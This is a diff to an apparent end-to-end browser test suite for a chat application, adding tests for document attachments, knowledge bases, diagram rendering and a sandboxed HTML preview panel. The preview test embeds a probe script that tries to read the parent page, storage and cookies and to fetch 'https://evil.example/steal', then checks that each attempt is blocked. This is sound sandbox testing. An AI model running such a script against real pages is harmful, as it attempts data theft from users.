@@ -468,21 +468,11 @@ for (const way of CORNERS)
 		equal(await said(), "First matter", "what is left");
 	});
 
-journey("small things: a picture grows, a file is refused before it is sent, a conversation that is not there", async () => {
+journey("small things: a picture grows, a conversation that is not there", async () => {
 	const user = await newUser();
 	const page = await newPage();
 	await signIn(page, user.email);
-	const sent = [];
-	page.on("request", (r) => r.url().endsWith("/api/uploads") && r.method() === "POST" && sent.push(r.url()));
 	const files = page.locator('input[type="file"]').first();
-	await files.setInputFiles({ name: "report.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF") });
-	const told = page.getByRole("status").filter({ hasText: "report.pdf" });
-	await told.waitFor();
-	equal(sent.length, 0, "uploads of what is refused");
-	const box = await told.boundingBox();
-	holds(box.x + box.width > 1280 - 40 && box.y > 500, `the message stands at ${JSON.stringify(box)}`);
-	await look(page, "toast");
-
 	const picture = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
 	await files.setInputFiles({ name: "weir at dawn.png", mimeType: "image/png", buffer: picture });
 	await page.getByRole("img", { name: "weir at dawn.png" }).waitFor();
@@ -1067,6 +1057,104 @@ journey("a picture is attached, shown and sent", async () => {
 		area.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
 	}, [...png]);
 	await page.getByRole("button", { name: "Remove attachment" }).waitFor();
+});
+
+journey("a document is read, goes along with the question, and may go into a base instead", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await api("POST", "/api/knowledge", { token: user.token, json: { name: "Rivers" } });
+	await signIn(page, user.email);
+	await chooseModel(page, "demo-fast");
+	const files = page.locator('input[type="file"][multiple]');
+	const chip = (name) => page.locator("li[data-state]").filter({ hasText: name });
+	const state = (name, wanted) => page.locator(`li[data-state="${wanted}"]`).filter({ hasText: name }).waitFor({ timeout: 60_000 });
+	// one that cannot be read says why, and nothing is sent before it is away
+	await files.setInputFiles([
+		{ name: "gates.md", mimeType: "text/markdown", buffer: Buffer.from("# Gates\n\nGate 7 opens at 3 metres.\n") },
+		{ name: "broken.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF") },
+	]);
+	await state("gates.md", "ready");
+	await state("broken.pdf", "failed");
+	holds((await chip("broken.pdf").innerText()).includes("damaged"), "it says why");
+	await input(page).fill("When does gate 7 open? [[demo echo=1]]");
+	holds(await page.getByRole("button", { name: "Send", exact: true }).isDisabled(), "it cannot be sent");
+	await look(page, "documents");
+	await page.setViewportSize({ width: 390, height: 844 });
+	await look(page, "documents-phone");
+	await page.setViewportSize({ width: 1280, height: 800 });
+	await chip("broken.pdf").getByRole("button", { name: /^Remove/ }).click();
+	// another goes into a base, which the conversation looks into
+	await files.setInputFiles({ name: "rivers.txt", mimeType: "text/plain", buffer: Buffer.from("Rivers run to the sea.") });
+	await state("rivers.txt", "ready");
+	await chip("rivers.txt").getByRole("button", { name: /knowledge base/ }).click();
+	await page.getByRole("dialog").getByRole("button", { name: "Rivers" }).click();
+	await chip("rivers.txt").waitFor({ state: "detached" });
+	equal(await page.locator("[data-knowledge]").getAttribute("data-knowledge"), "1", "bases of the conversation");
+	await page.getByRole("button", { name: "Send", exact: true }).click();
+	const answer = await waitAnswer(page, 1);
+	holds((await answer.innerText()).includes('document 1, "gates.md"'), "the question named its document");
+	const question = page.locator("article").first();
+	await question.getByText("gates.md").waitFor();
+	await page.reload();
+	await question.getByText("gates.md").waitFor();
+	await look(page, "document-sent");
+});
+
+journey("diagrams are drawn, and a page opens beside the conversation, where it can do no harm", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	await chooseModel(page, "demo-fast");
+	const asked = [];
+	page.on("request", (r) => asked.push(r.url()));
+	const TRIES = `
+const out = [];
+const attempt = (name, act) => { try { act(); out.push(name); } catch { out.push("no " + name); } };
+attempt("parent", () => parent.document.title);
+attempt("storage", () => localStorage.length);
+attempt("cookie", () => { document.cookie = "a=1"; if (document.cookie === "") throw 0; });
+fetch("https://evil.example/steal").then(() => out.push("net"), () => out.push("no net")).then(() => { document.getElementById("a").textContent = out.join(", "); });
+`;
+	const level = (n) => "```html\n<!doctype html>\n<title>Gauge</title>\n<h1>Level " + n + "</h1>\n<p id=a>waiting</p>\n<script>" + TRIES + "</script>\n```\n";
+	await send(page, "[[demo echo=1]] Here:\n\n```mermaid\ngraph TD\n  A[Spring] --> B[Weir]\n  B --> C[Sea]\n```\n\n```mermaid\ngraph TD\n  A --\n```\n\n" + level(1));
+	const answer = await waitAnswer(page, 1);
+	const drawn = answer.locator("[data-diagram=drawn] img");
+	await drawn.waitFor({ timeout: 60_000 });
+	await until(() => drawn.evaluate((img) => img.complete && img.naturalWidth > 50), "the diagram is drawn");
+	await answer.getByText(/cannot be drawn/).waitFor({ timeout: 60_000 });
+	const [picture] = await Promise.all([page.waitForEvent("download"), answer.getByRole("button", { name: "Save as PNG" }).click()]);
+	equal(picture.suggestedFilename(), "diagram.png", "the file's name");
+	await answer.getByRole("button", { name: "Enlarge the diagram" }).first().click();
+	await page.getByRole("dialog").locator("img").waitFor();
+	await page.keyboard.press("Escape");
+
+	await answer.getByRole("button", { name: "Open the preview" }).click();
+	const panel = page.locator("aside[data-artifact]");
+	const inside = page.frameLocator('iframe[title="Gauge"]');
+	await inside.getByText("no parent, no storage, no cookie, no net").waitFor({ timeout: 60_000 });
+	equal(asked.filter((u) => u.includes("evil.example")).length, 0, "requests to another host");
+	page.problems = page.problems.filter((p) => !p.includes("evil.example")); // the browser tells of what it kept from the page
+	await shot(page, "artifact");
+	// the next answer's is its next version
+	await send(page, "[[demo echo=1]] And now:\n\n" + level(2));
+	await waitAnswer(page, 2);
+	await panel.getByText("1/2", { exact: true }).waitFor();
+	await panel.getByRole("button", { name: "Later version" }).click();
+	await inside.getByText("Level 2").waitFor({ timeout: 60_000 });
+	await panel.getByText("Source", { exact: true }).click();
+	holds((await panel.locator("pre").innerText()).includes("Level 2"), "its source");
+	const [file] = await Promise.all([page.waitForEvent("download"), panel.getByRole("button", { name: "Save", exact: true }).click()]);
+	equal(file.suggestedFilename(), "Gauge.html", "the file's name");
+	await look(page, "artifact-source");
+	await page.setViewportSize({ width: 390, height: 844 });
+	await page.emulateMedia({ colorScheme: "dark" });
+	await look(page, "artifact-phone");
+	await page.keyboard.press("Escape");
+	await panel.waitFor({ state: "detached" });
+	await drawn.waitFor({ timeout: 60_000 });
+	await drawn.scrollIntoViewIfNeeded();
+	await look(page, "diagram-dark");
+	page.problems = page.problems.filter((p) => !p.includes("evil.example"));
 });
 
 // -- the operator
